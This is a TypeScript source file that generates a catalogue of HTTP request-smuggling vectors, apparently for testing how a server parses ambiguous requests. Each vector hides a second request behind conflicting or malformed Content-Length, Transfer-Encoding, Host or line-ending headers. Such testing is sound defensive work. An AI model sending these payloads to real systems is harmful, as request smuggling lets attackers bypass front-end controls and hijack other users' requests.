/** Ambiguous requests that two servers may parse differently, each with a hidden second request. */

/** Parameters of a vector. */
export interface Hidden {
  readonly host: string;
  readonly token: string;
  /** Collection path of the hidden request. */
  readonly path: string;
  /** Complete text of the hidden request. */
  readonly inner: string;
}

/** A request that adds a tag. */
export function post(
  { host, token, path }: Omit<Hidden, 'inner'>,
  headers: readonly string[],
  content: string,
  start = `POST ${path} HTTP/1.1`,
): string {
  const lines = [start, `Host: ${host}`, `Authorization: Bearer ${token}`];
  const type = 'Content-Type: application/xml';
  return `${[...lines, type, ...headers].join('\r\n')}\r\n\r\n${content}`;
}

/** All vectors: description and bytes. */
export function smugglingVectors(hidden: Hidden): readonly (readonly [string, string])[] {
  const { host, token, path, inner } = hidden;
  const outer = (headers: readonly string[], content: string, start?: string) =>
    post(hidden, headers, content, start);
  const length = 32;
  const chunks = '5\r\nhello\r\n0\r\n\r\n';
  return [
    [
      'length and chunks',
      outer(['Content-Length: 6', 'Transfer-Encoding: chunked'], `0\r\n\r\n${inner}`),
    ],
    [
      'chunks and length',
      outer(['Transfer-Encoding: chunked', 'Content-Length: 6'], `0\r\n\r\n${inner}`),
    ],
    ['two lengths', outer(['Content-Length: 0', `Content-Length: ${length}`], inner)],
    ['two equal lengths in a list', outer(['Content-Length: 5, 5'], `hello${inner}`)],
    ['a negative length', outer(['Content-Length: -1'], inner)],
    ['a length with a sign', outer(['Content-Length: +5'], `hello${inner}`)],
    ['a length in hexadecimal', outer(['Content-Length: 0x5'], `hello${inner}`)],
    ['a length beyond 2^64', outer(['Content-Length: 18446744073709551617'], inner)],
    ['an unknown coding', outer(['Transfer-Encoding: xchunked'], `${chunks}${inner}`)],
    [
      'chunks as one of two codings',
      outer(['Transfer-Encoding: chunked, identity'], `${chunks}${inner}`),
    ],
    ['two codings', outer(['Transfer-Encoding: gzip, chunked'], `${chunks}${inner}`)],
    [
      'a coding in two headers',
      outer(['Transfer-Encoding: chunked', 'Transfer-Encoding: x'], `${chunks}${inner}`),
    ],
    ['a coding behind a tabulator', outer(['Transfer-Encoding:\x0bchunked'], `${chunks}${inner}`)],
    [
      'a coding in HTTP/1.0',
      outer(['Transfer-Encoding: chunked'], `${chunks}${inner}`, `POST ${path} HTTP/1.0`),
    ],
    ['a blank before the colon', outer(['Content-Length : 5'], `hello${inner}`)],
    [
      'a header that goes on in the next line',
      outer(['X: a', ' Content-Length: 5'], `hello${inner}`),
    ],
    ['a line end without return', outer([`X: a\nContent-Length: 5`], `hello${inner}`)],
    ['a return without line end', outer([`X: a\rContent-Length: 5`], `hello${inner}`)],
    ['a NUL in a header', outer(['X: a\0b', 'Content-Length: 0'], inner)],
    ['no host', `GET ${path} HTTP/1.1\r\nAuthorization: Bearer ${token}\r\n\r\n${inner}`],
    ['two hosts', outer(['Host: elsewhere.example.com', 'Content-Length: 0'], inner)],
    ['two equal hosts', outer([`host: ${host}`, 'Content-Length: 0'], inner)],
    [
      'the address of another server',
      outer(['Content-Length: 0'], inner, `POST https://elsewhere.example.com${path} HTTP/1.1`),
    ],
    [
      'its own address without TLS',
      outer(['Content-Length: 0'], inner, `POST http://${host}${path} HTTP/1.1`),
    ],
    ['an authority alone', outer(['Content-Length: 0'], inner, `POST ${host} HTTP/1.1`)],
    [
      'a chunk that is too short',
      outer(['Transfer-Encoding: chunked'], `2\r\nhello\r\n0\r\n\r\n${inner}`),
    ],
    [
      'a chunk of a negative size',
      outer(['Transfer-Encoding: chunked'], `-5\r\nhello\r\n0\r\n\r\n${inner}`),
    ],
    [
      'an expectation that nobody knows',
      outer(['Expect: the-unexpected', `Content-Length: 5`], `hello${inner}`),
    ],
  ];
}
